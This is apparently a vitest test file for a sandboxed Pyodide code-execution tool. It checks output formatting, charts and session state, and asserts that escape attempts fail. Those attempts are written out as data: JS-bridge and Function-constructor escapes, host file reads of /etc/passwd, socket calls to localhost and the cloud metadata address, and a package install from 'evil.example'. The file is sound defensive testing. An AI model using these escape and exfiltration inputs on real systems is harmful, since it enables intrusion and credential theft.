import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CodeExecutionTool } from '../../server/tools/code-execution.js';
import type { ToolContext, ToolOutcome } from '../../server/tools/tool.js';

const log = pino({ level: 'silent' });
const LIMITS = { timeoutMs: 60_000, maxResultChars: 200_000 };
// No test here is meant to time out; a generous limit absorbs slow interpreter starts on a busy machine.
const OPTIONS = { timeoutMs: 60_000, memoryMb: 256, outputMaxBytes: 65_536, requireNetns: false, warmPool: 2 };
const SLOW = { timeout: 120_000 };
// Set before the tool starts: the child must never see it.
const CANARY = `canary-${randomUUID()}`;
process.env.GALAXY_SANDBOX_CANARY = CANARY;

function context(sessionId: string): ToolContext {
  return { user: 'tester@example.com', tenant: 'default', credentials: {}, sessionId, dataSources: [], signal: new AbortController().signal, log };
}

function runPython(tool: CodeExecutionTool, sessionId: string, code: string): Promise<ToolOutcome> {
  return tool.execute(JSON.stringify({ code }), context(sessionId), LIMITS);
}

/** The text the model reads; fails the test if the call itself failed. */
async function contentOf(tool: CodeExecutionTool, sessionId: string, code: string): Promise<string> {
  const outcome = await runPython(tool, sessionId, code);
  if (!outcome.ok) throw new Error(`expected a result, got ${outcome.code}: ${outcome.message}`);
  return outcome.content;
}

let tool: CodeExecutionTool;

beforeAll(async () => {
  tool = new CodeExecutionTool(OPTIONS, log);
  await tool.start();
}, 120_000);

afterAll(async () => {
  await tool.stop();
});

describe('code_execution: running Python', SLOW, () => {
  it('returns printed output, stderr and the repr of the last expression as labelled text and a code view', async () => {
    const code = "print('hello')\nimport sys\nprint('careful', file=sys.stderr)\n6 * 7";
    const outcome = await runPython(tool, 'py', code);
    const expected = 'stdout:\nhello\n\nstderr:\ncareful\n\nresult:\n42';
    expect(outcome).toMatchObject({ ok: true, content: expected, ui: { type: 'code', language: 'python', code, output: expected } });
  });

  it('keeps variables and functions between calls of the same session', async () => {
    await contentOf(tool, 'py', 'x = 41\ndef bump(v):\n    return v + 1');
    expect(await contentOf(tool, 'py', 'bump(x)')).toBe('result:\n42');
  });

  it('reports an exception as a traceback that starts at the user code, and keeps the interpreter', async () => {
    const content = await contentOf(tool, 'py', 'y = 5\n1 / 0');
    expect(content).toBe(
      'error:\nTraceback (most recent call last):\n  File "<code>", line 2, in <module>\nZeroDivisionError: division by zero',
    );
    expect(await contentOf(tool, 'py', 'y')).toBe('result:\n5');
  });

  it('reports a syntax error with its location', async () => {
    expect(await contentOf(tool, 'py', 'x = (')).toContain("SyntaxError: '(' was never closed");
  });

  it('says so when the code produced nothing', async () => {
    expect(await contentOf(tool, 'py', 'z = 1')).toBe('The code ran and produced no output and no value.');
  });

  it('turns a chart spec as the last expression into a chart ui', async () => {
    const spec = { type: 'chart', kind: 'bar', title: 'Sales', labels: ['Q1', 'Q2'], datasets: [{ label: '2024', data: [10, 12.5] }] };
    const outcome = await runPython(tool, 'py', JSON.stringify(spec));
    expect(outcome.ok && outcome.ui).toEqual(spec);
    expect(outcome.ok && outcome.content.startsWith('A bar chart was shown to the user.')).toBe(true);
  });

  it('falls back to the code view, and tells the model why, when a chart spec is invalid', async () => {
    const code = "{'type': 'chart', 'kind': 'radar', 'labels': ['a'], 'datasets': [{'label': 'n', 'data': [1]}]}";
    const outcome = await runPython(tool, 'py', code);
    expect(outcome.ok && outcome.ui?.type).toBe('code');
    expect(outcome.ok && outcome.content).toMatch(/^No chart was shown: the chart spec is not valid \(kind: /);
  });

  it('refuses missing, empty or oversized code before running anything', async () => {
    const ctx = context('arguments');
    expect((await tool.execute('{}', ctx, LIMITS)).ok).toBe(false);
    expect(await tool.execute(JSON.stringify({ code: '' }), ctx, LIMITS)).toMatchObject({ ok: false, code: 'TOOL_BAD_ARGUMENTS' });
    const huge = JSON.stringify({ code: '#'.repeat(100_001) });
    expect(await tool.execute(huge, ctx, LIMITS)).toMatchObject({ ok: false, code: 'TOOL_BAD_ARGUMENTS' });
  });

  it('tells the model its limits and how to make a chart', () => {
    const spec = tool.spec();
    expect(spec.function.name).toBe('code_execution');
    expect(spec.function.parameters).toMatchObject({ required: ['code'], properties: { code: { type: 'string', maxLength: 100_000 } } });
    expect(spec.function.description).toContain('"type": "chart"');
    expect(spec.function.description).toContain('no network access');
  });

  it('reports its isolation level, memory caps and warm pool for /ready', () => {
    const netnsWorks = spawnSync('unshare', ['-rn', 'true']).status === 0;
    expect(tool.readiness()).toMatchObject({
      isolation: netnsWorks ? 'netns' : 'process-only',
      snapshot: true,
      memoryCapMb: 256,
      processMemoryCapMb: 256 + 384,
    });
  });
});

describe('code_execution: sandbox isolation (security checklist 18–21, 25, 26)', SLOW, () => {
  const session = 'attacker';
  const noJs = "ModuleNotFoundError: No module named 'js'";

  it('18: has no JS bridge — `js` is not importable, no host env, no process, no child_process', async () => {
    const marker = join('/tmp', `pwn-${randomUUID()}`);
    expect(await contentOf(tool, session, 'import js\njs.process.env')).toContain(noJs);
    expect(await contentOf(tool, session, `import js\njs.process.getBuiltinModule('child_process').execSync('touch ${marker}')`)).toContain(noJs);
    expect(await contentOf(tool, session, "import js\njs.Object.constructor.constructor('return process')()")).toContain(noJs);
    expect(existsSync(marker)).toBe(false);
  });

  it('18: even after removing the import blocker, a leaked JS object cannot be turned into `process`', async () => {
    const code = [
      'import sys',
      "sys.meta_path[:] = [f for f in sys.meta_path if 'SandboxImportBlocker' not in repr(f)]",
      'import _pyodide_core',
      "_pyodide_core.to_js({}).constructor.constructor('return process')()",
    ].join('\n');
    // _pyodide_core cannot even be re-created any more (checklist 41, code-execution-bridge.test.ts);
    // were it reachable, code generation from strings is still disallowed in the child.
    expect(await contentOf(tool, 'unblocked', code)).toMatch(/AttributeError: module '_imp' has no attribute 'create_builtin'|ModuleNotFoundError/);
    // The JS module finder is gone too, so the bridge modules stay unreachable without the blocker.
    expect(await contentOf(tool, 'unblocked', 'import js')).toContain(noJs);
    expect(await contentOf(tool, 'unblocked', 'import pyodide_js')).toContain("No module named 'pyodide_js'");
    expect(await contentOf(tool, 'unblocked', 'from pyodide.code import run_js\nrun_js("process")')).toMatch(
      /ModuleNotFoundError: No module named '(js|pyodide_js)'/,
    );
  });

  it('19: has no Pyodide API — mountNodeFS, loadBinaryFile and run_js are unreachable', async () => {
    const noPyodideJs = "ModuleNotFoundError: No module named 'pyodide_js'";
    expect(await contentOf(tool, session, "import pyodide_js\npyodide_js.mountNodeFS('/h', '/')\nopen('/h/etc/passwd').read()")).toContain(noPyodideJs);
    expect(await contentOf(tool, session, "import pyodide_js\npyodide_js._api.loadBinaryFile('/etc/passwd')")).toContain(noPyodideJs);
    expect(await contentOf(tool, session, 'from pyodide.code import run_js')).toContain("ModuleNotFoundError: No module named 'pyodide'");
    expect(await contentOf(tool, session, 'from pyodide.ffi import to_js')).toContain("ModuleNotFoundError: No module named 'pyodide'");
  });

  it('sees only its own in-memory filesystem, never host files', async () => {
    expect(await contentOf(tool, session, "open('/etc/passwd').read()")).toContain("FileNotFoundError: [Errno 44] No such file or directory: '/etc/passwd'");
    const hostFile = join(process.cwd(), 'package.json');
    expect(await contentOf(tool, session, `open(${JSON.stringify(hostFile)}).read()`)).toContain('FileNotFoundError');
    expect(await contentOf(tool, session, "import os\nsorted(os.listdir('/'))")).toBe("result:\n['dev', 'home', 'lib', 'proc', 'tmp']");
  });

  it('sees an environment with nothing of the host in it', async () => {
    const content = await contentOf(tool, session, 'import os\nprint(dict(os.environ))');
    expect(content).not.toContain(CANARY);
    const hostValues = Object.values(process.env).filter((v): v is string => typeof v === 'string' && v.length >= 8);
    for (const value of hostValues) expect(content).not.toContain(value);
  });

  it('20: opens no network connection — a listener on 127.0.0.1 sees nothing', async () => {
    let connections = 0;
    const listener = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as net.AddressInfo).port;
    try {
      const attempts = [
        `import socket\ns = socket.socket()\ns.settimeout(2)\ns.connect(('127.0.0.1', ${port}))`,
        `import socket\nsocket.create_connection(('127.0.0.1', ${port}), timeout=2)`,
        `import urllib.request\nurllib.request.urlopen('http://127.0.0.1:${port}/', timeout=2).read()`,
        `import socket\ns = socket.socket()\ns.settimeout(2)\ns.connect(('169.254.169.254', 80))`,
      ];
      for (const code of attempts) expect(await contentOf(tool, session, code)).toMatch(/OSError: \[Errno \d+\]|URLError/);
      expect(await contentOf(tool, session, "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 0))\ns.listen()")).toContain(
        'PermissionError',
      );
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(connections).toBe(0);
    } finally {
      listener.close();
    }
  });

  it('21: installs no packages — micropip is not available', async () => {
    expect(await contentOf(tool, session, "import micropip\nmicropip.install('https://evil.example/x.whl')")).toContain(
      "ModuleNotFoundError: No module named 'micropip'",
    );
  });

  it('21: files written by Python, even an imported module, stay inside the sandbox', async () => {
    const name = `galaxy_mod_${randomUUID().replaceAll('-', '')}`;
    const code = `open('/tmp/${name}.py', 'w').write('VALUE = 7')\nimport sys\nsys.path.insert(0, '/tmp')\nimport ${name}\n${name}.VALUE`;
    expect(await contentOf(tool, session, code)).toBe('result:\n7');
    expect(existsSync(`/tmp/${name}.py`)).toBe(false);
  });

  it('25: state of one session (globals and /tmp files) is invisible to another', async () => {
    await contentOf(tool, 'user-a', "SECRET = 'a-secret'\nopen('/tmp/a.txt', 'w').write('private')");
    expect(await contentOf(tool, 'user-b', "'SECRET' in globals(), __import__('os').listdir('/tmp')")).toBe('result:\n(False, [])');
    expect(await contentOf(tool, 'user-a', "SECRET, open('/tmp/a.txt').read()")).toBe("result:\n('a-secret', 'private')");
  });

  it('26: os.fork, subprocess, threads and ctypes fail as clean Python errors', async () => {
    expect(await contentOf(tool, session, 'import os\nos.fork()')).toContain('OSError: [Errno 52] Function not implemented');
    expect(await contentOf(tool, session, "import subprocess\nsubprocess.run(['ls'])")).toContain('emscripten does not support processes');
    expect(await contentOf(tool, session, 'import threading\nthreading.Thread(target=print).start()')).toContain(
      "RuntimeError: can't start new thread",
    );
    expect(await contentOf(tool, session, 'import ctypes')).toContain("ModuleNotFoundError: No module named 'ctypes'");
    expect(await contentOf(tool, session, '1 + 1')).toBe('result:\n2');
  });

  it('reads no stdin: input() ends at EOF instead of reading the request channel', async () => {
    expect(await contentOf(tool, session, 'input()')).toContain('EOFError: EOF when reading a line');
  });
});
